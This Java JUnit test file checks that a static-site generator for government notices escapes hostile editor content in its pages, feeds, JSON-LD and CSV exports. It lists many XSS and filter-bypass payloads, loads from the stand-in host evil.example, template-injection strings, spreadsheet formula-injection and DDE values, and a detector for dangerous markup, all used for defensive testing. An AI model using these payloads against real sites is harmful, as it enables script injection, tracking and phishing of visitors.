package org.gongkai;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.rometools.rome.feed.synd.SyndFeed;
import com.rometools.rome.io.SyndFeedInput;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import javax.xml.parsers.DocumentBuilderFactory;
import org.gongkai.pages.FirstPaint;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * For everyone who opens a page: whatever an editor types or pastes, it is text and runs nowhere.
 */
class HostileContentTest {
    /** What a page would show of a field that was not escaped. */
    private static final String MARKUP =
            "<b class=hostile onclick=alert(1)>&amp;\"</b><script>alert(1)</script></title></script>"
                    + "${7*7}<#assign x=1>#{3+4}";

    @TempDir private Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<iframe src=https://evil.example/></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
                "<form action=https://evil.example/><input name=身份证号><button>提交</button></form>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>点</text></a></svg>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<img src=x onerror=alert(1)>",
                "<img src=https://evil.example/track.png>",
                "<img src=//evil.example/track.png>",
                "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                "![图](https://evil.example/track.png)",
                "![图](//evil.example/track.png)",
                "![图](\\\\\\\\evil.example/track.png)",
                "<p onclick=alert(1) ONMOUSEOVER='alert(1)' style='position:fixed'>文字</p>",
                "<a href='javascript:alert(1)'>点</a>",
                "<a href='JaVaScRiPt:alert(1)'>点</a>",
                "<a href='&#106;avascript:alert(1)'>点</a>",
                "<a href='java&#9;script:alert(1)'>点</a>",
                "<a href='java\tscript:alert(1)'>点</a>",
                "<a href='&#1;javascript:alert(1)'>点</a>",
                "<a href=' &NewLine;javascript&colon;alert(1)'>点</a>",
                "<a href='vbscript:msgbox(1)'>点</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>点</a>",
                "[点](javascript:alert(1))",
                "[点](JAVASCRIPT:alert(1))",
                "[点](java&#x09;script:alert(1))",
                "[点](&#x6A;avascript:alert(1))",
                "[点](<java\tscript:alert(1)>)",
                "[点](data:text/html;base64,PHNjcmlwdD4=)",
                "[点][注]\n\n[注]: javascript:alert(1)",
                "<javascript:alert(1)>",
                "<base href=https://evil.example/>",
                "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
                "</main></body></html><script>alert(1)</script>",
                "<!--><script>alert(1)</script>-->",
                "<style>没有结尾",
                "文字<script>没有结尾",
                "<!-- 没有结尾",
                "<style>甲\n\n<script>乙\n\n<!-- 丙",
                "<![CDATA[<script>alert(1)</script>]]>",
                "`<script>alert(1)</script>`",
                "    <script>alert(1)</script>",
                "${7*7} <#assign x=1> <@layout.page/> ${site.notices[0].title}"
            })
    void runsNothingOfBody(String markdown) throws Exception {
        TinyColumn column =
                new TinyColumn(folder)
                        .withNotice("2023/a", "请认真贯彻执行。", markdown + "\n\n结束语。")
                        .with("content/pages/zhinan.md", "---\n标题: 指南\n---\n" + markdown)
                        .build();
        // A link to nowhere is an error, and what is not published harms nobody.
        if (column.published()) {
            assertHarmless(column);
            assertTrue(
                    page(column, "notices/2023/a/index.html").text().contains("结束语。"),
                    "what follows is lost");
        } else {
            assertTrue(
                    column.problems().stream().allMatch(line -> line.contains("[broken-link]")),
                    () -> column.problems().toString());
        }
    }

    @Test
    void showsTemplateSyntaxOfBodyAsText() {
        TinyColumn column =
                new TinyColumn(folder)
                        .withNotice("2023/a", "请认真贯彻执行。", "`${7*7}`和${7*7}、#{3+4}、[=5*5]。")
                        .build();
        String text = page(column, "notices/2023/a/index.html").select("main").text();
        assertTrue(text.contains("${7*7}和${7*7}、#{3+4}、[=5*5]。"), text);
    }

    @Test
    void keepsTitleThatEndsScriptInsideItsJson() {
        TinyColumn column =
                new TinyColumn(folder)
                        .withNotice(
                                "2023/a", "标题: 样例县人民政府办公室关于做好政务公开工作的通知", "标题: '" + MARKUP + "<!--'")
                        .build();
        Element script =
                page(column, "notices/2023/a/index.html")
                        .selectFirst("script[type=application/ld+json]");
        @SuppressWarnings("unchecked")
        Map<String, Object> json = (Map<String, Object>) Json.read(script.data());
        assertEquals(MARKUP + "<!--", json.get("name"));
    }

    @Test
    void showsMarkupInEveryFieldAsText() throws Exception {
        TinyColumn column = hostileEverywhere().build();
        assertTrue(column.published(), () -> column.problems().toString());
        assertHarmless(column);
        for (Map.Entry<String, Document> page : new BuiltSite(column.out()).pages().entrySet()) {
            assertEquals(
                    0,
                    page.getValue().select(".hostile, main b, header b, footer b").size(),
                    page.getKey());
        }
        Document notice = page(column, "notices/2023/a/index.html");
        assertEquals("标题" + MARKUP, notice.selectFirst("h1").wholeText());
        String text = notice.body().wholeText();
        for (String field :
                List.of(
                        "发文字号", "发布机关", "主题", "统一编号", "栏目", "附件名", "表名", "组名", "序号", "要求", "牵头",
                        "责任", "里程碑", "说明", "专栏名", "主办")) {
            assertTrue(text.contains(field + MARKUP), field);
        }
        Document unit = page(column, "units/dan-wei/index.html");
        assertEquals("单位" + MARKUP, unit.selectFirst("h1").wholeText());
        String unitText = unit.body().wholeText();
        for (String field : List.of("电话", "地址", "时间", "负责人", "职能", "简称", "曾用名")) {
            assertTrue(unitText.contains(field + MARKUP), field);
        }
        assertTrue(page(column, "units/index.html").body().wholeText().contains("统称" + MARKUP));
        assertTrue(page(column, "pages/p/index.html").title().contains("说明页" + MARKUP));
        assertEquals(
                "标题" + MARKUP,
                Json.objects(column.read("data/notices.json")).get(0).get("title"),
                "data is as typed");
    }

    @Test
    void keepsFeedAndSitemapWellFormedWhateverIsTyped() throws Exception {
        TinyColumn column = hostileEverywhere().build();
        SyndFeed feed = new SyndFeedInput().build(new StringReader(column.read("feed.xml")));
        assertEquals("专栏名" + MARKUP, feed.getTitle());
        assertEquals("标题" + MARKUP, feed.getEntries().get(0).getTitle());
        assertTrue(addresses(column).contains("https://a.example/x/notices/2023/a/"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\u0001", "\u0007", "\u000b", "\u001f", "\ufffe", "&#1;", "&#x1f;", "&#xb;"})
    void keepsFeedWellFormedWhereTextHoldsControlCharacter(String character) throws Exception {
        TinyColumn column =
                new TinyColumn(folder).withNotice("2023/a", "请认真", "甲" + character + "乙").build();
        assertTrue(column.published(), () -> column.problems().toString());
        SyndFeed feed = new SyndFeedInput().build(new StringReader(column.read("feed.xml")));
        String summary = feed.getEntries().get(0).getDescription().getValue();
        assertTrue(summary.matches(".*甲\\W?乙.*"), summary);
        assertFalse(
                column.read("notices/2023/a/index.html")
                        .matches("(?s).*[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\ufffe].*"));
    }

    @Test
    void keepsFeedWellFormedWhereTitleEscapesControlCharacter() throws Exception {
        TinyColumn column =
                new TinyColumn(folder)
                        .withNotice(
                                "2023/a", "标题: 样例县人民政府办公室关于做好政务公开工作的通知", "标题: \"前\\x01\\0\\x0B后\"")
                        .build();
        assertTrue(column.published(), () -> column.problems().toString());
        SyndFeed feed = new SyndFeedInput().build(new StringReader(column.read("feed.xml")));
        assertEquals("前后", feed.getEntries().get(0).getTitle());
    }

    @Test
    void writesNoCellThatSpreadsheetWouldRun() {
        List<String> formulas =
                List.of(
                        "=HYPERLINK(\"https://evil.example/\",\"点\")",
                        "+1+cmd|' /C calc'!A0",
                        "-1+1",
                        "@SUM(1+1)",
                        "\t=1+1",
                        "\r=1+1",
                        "a,\"b\"\n=1+1");
        StringBuilder tasks = new StringBuilder("任务:\n");
        for (String formula : formulas) {
            String yaml =
                    "\""
                            + formula.replace("\\", "\\\\")
                                    .replace("\"", "\\\"")
                                    .replace("\t", "\\t")
                                    .replace("\r", "\\r")
                                    .replace("\n", "\\n")
                            + "\"";
            for (String key : List.of("要求", "序号", "牵头部门", "责任单位", "完成时限")) {
                tasks.append(key.equals("要求") ? "  - " : "    ");
                tasks.append(key).append(": ").append(yaml).append('\n');
            }
        }
        TinyColumn column =
                new TinyColumn(folder)
                        .withNotice()
                        .with("content/notices/2023/a.tasks.yml", tasks.toString())
                        .build();
        List<List<String>> rows = Csv.read(column.read("data/tasks.csv"));
        assertEquals(1 + formulas.size(), rows.size());
        for (List<String> row : rows) {
            assertEquals(12, row.size(), row::toString);
            for (String cell : row) {
                assertFalse(cell.matches("(?s)[=+\\-@\t\r].*"), cell);
            }
        }
        assertEquals("'" + formulas.get(0), rows.get(1).get(5), "the text is kept");
    }

    private TinyColumn hostileEverywhere() {
        String yaml = MARKUP.replace("'", "''");
        return new TinyColumn(folder)
                .with(
                        "site.yml",
                        """
                        名称: '专栏名HOSTILE'
                        机关: '机关HOSTILE'
                        网址: https://a.example/x/
                        ICP: 'ICPHOSTILE'
                        公安备案: '公安HOSTILE'
                        主办单位: '主办HOSTILE'
                        承办单位: '承办HOSTILE'
                        联系方式: {电话: '电话HOSTILE', 地址: '地址HOSTILE', 邮编: 'HOSTILE'}
                        说明: '说明HOSTILE'
                        关键词: ['词HOSTILE']
                        """
                                .replace("HOSTILE", yaml))
                .with(
                        "content/units.yml",
                        """
                        单位:
                          - 名称: '单位HOSTILE'
                            代码: dan-wei
                            简称: ['简称HOSTILE']
                            曾用名: ['曾用名HOSTILE']
                            类别: 其他
                            电话: '电话HOSTILE'
                            地址: '地址HOSTILE'
                            办公时间: '时间HOSTILE'
                            负责人: '负责人HOSTILE'
                            职能: '职能HOSTILE'
                        统称:
                          - {名称: '统称HOSTILE', 别名: ['别名HOSTILE'], 成员: ['单位HOSTILE']}
                        """
                                .replace("HOSTILE", yaml))
                .with(
                        "content/catalog.yml",
                        "目录:\n  - {名称: '栏目HOSTILE', 说明: '说明HOSTILE'}\n".replace("HOSTILE", yaml))
                .with("content/notices/2023/files/a.txt", "附件")
                .with(
                        "content/notices/2023/a.md",
                        """
                        ---
                        标题: '标题HOSTILE'
                        索引号: '11371524004435601F/2023-00000001'
                        发文字号: '发文字号HOSTILE'
                        发布机关: '发布机关HOSTILE'
                        主题分类: ['主题HOSTILE']
                        成文日期: 2023-09-13
                        发布日期: 2023-09-14
                        统一编号: '统一编号HOSTILE'
                        栏目: '栏目HOSTILE'
                        关键词: ['关键词HOSTILE']
                        废止: ['废止HOSTILE']
                        附件:
                          - {名称: '附件名HOSTILE', 文件: files/a.txt}
                        审核:
                          初审: {人员: 赵初审, 日期: 2023-09-11}
                          复审: {人员: 钱复审, 日期: 2023-09-12}
                          终审: {人员: 孙终审, 日期: 2023-09-13}
                        ---
                        正文。
                        """
                                .replace("HOSTILE", yaml))
                .with(
                        "content/notices/2023/a.tasks.yml",
                        """
                        标题: '表名HOSTILE'
                        分组:
                          - 名称: '组名HOSTILE'
                            任务:
                              - 序号: '序号HOSTILE'
                                要求: '要求HOSTILE'
                                牵头部门: '牵头HOSTILE'
                                责任单位: '责任HOSTILE'
                                完成时限: '时限HOSTILE'
                                里程碑: [{日期: 2023-08-31, 内容: '里程碑HOSTILE'}]
                                进展:
                                  - {日期: 2023-09-20, 状态: 进行中, 说明: '说明HOSTILE'}
                        """
                                .replace("HOSTILE", yaml))
                .with(
                        "content/pages/p.md",
                        "---\n标题: '说明页HOSTILE'\n---\n正文。\n".replace("HOSTILE", yaml));
    }

    /** Nothing on any page runs, loads from elsewhere, or sends anything. */
    private static void assertHarmless(TinyColumn column) throws Exception {
        Map<String, Document> pages = new BuiltSite(column.out()).pages();
        assertTrue(pages.size() > 10, "pages were built");
        List<String> found = new ArrayList<>();
        pages.forEach(
                (path, page) -> {
                    for (Element element : page.getAllElements()) {
                        harm(path, element, found);
                    }
                    page.select("script[type=application/ld+json]")
                            .forEach(script -> Json.read(script.data()));
                });
        assertEquals(List.of(), found);
        new SyndFeedInput().build(new StringReader(column.read("feed.xml")));
        assertTrue(addresses(column).size() > 10);
    }

    private static void harm(String path, Element element, List<String> found) {
        String tag = element.normalName();
        boolean data = element.attr("type").equals("application/ld+json");
        // Our own scripts stand outside of what editors write: modules, and one that is the same
        // everywhere.
        boolean module =
                element.attr("type").equals("module")
                        && element.attr("src")
                                .matches(
                                        "/?([\\w.]+/)*(search/(box|page)|scripts/tasks|tools/start)\\.js")
                        && element.data().isBlank();
        boolean first = element.data().equals(FirstPaint.read().script());
        boolean own = (module || first) && element.closest("main") == null;
        if (tag.equals("script") && !data && !own
                || List.of("iframe", "object", "embed", "base", "frame").contains(tag)
                || (tag.equals("meta") && element.attr("http-equiv").equalsIgnoreCase("refresh"))
                || (tag.equals("style") && element.data().contains("evil"))
                || (tag.equals("form") && element.attr("action").contains("evil"))) {
            found.add(path + ": " + element.outerHtml());
        }
        for (Attribute attribute : element.attributes()) {
            String name = attribute.getKey().toLowerCase(Locale.ROOT);
            // A browser drops tabs and line breaks inside, and control characters before.
            String value =
                    attribute.getValue().replaceAll("[\\p{Cntrl}\\s]", "").toLowerCase(Locale.ROOT);
            boolean loads =
                    name.equals("src")
                            || name.equals("srcset")
                            || name.equals("poster")
                            || name.equals("background")
                            || (name.equals("href")
                                    && tag.equals("link")
                                    && element.attr("rel").equals("stylesheet"));
            boolean leads = name.endsWith("href") || name.equals("action");
            if (name.startsWith("on")
                    || (name.equals("style") && value.contains("fixed"))
                    || ((loads || leads) && value.matches("(javascript|vbscript|data):.*"))
                    || (loads && (value.contains("//") || value.contains("\\")))) {
                found.add(path + ": " + element.outerHtml());
            }
        }
    }

    private static List<String> addresses(TinyColumn column) throws Exception {
        org.w3c.dom.Document sitemap =
                DocumentBuilderFactory.newInstance()
                        .newDocumentBuilder()
                        .parse(
                                new ByteArrayInputStream(
                                        new BuiltSite(column.out()).bytes("sitemap.xml")));
        List<String> addresses = new ArrayList<>();
        for (int i = 0; i < sitemap.getElementsByTagName("loc").getLength(); i++) {
            addresses.add(sitemap.getElementsByTagName("loc").item(i).getTextContent());
        }
        return addresses;
    }

    private static Document page(TinyColumn column, String path) {
        return new BuiltSite(column.out()).page(path);
    }
}
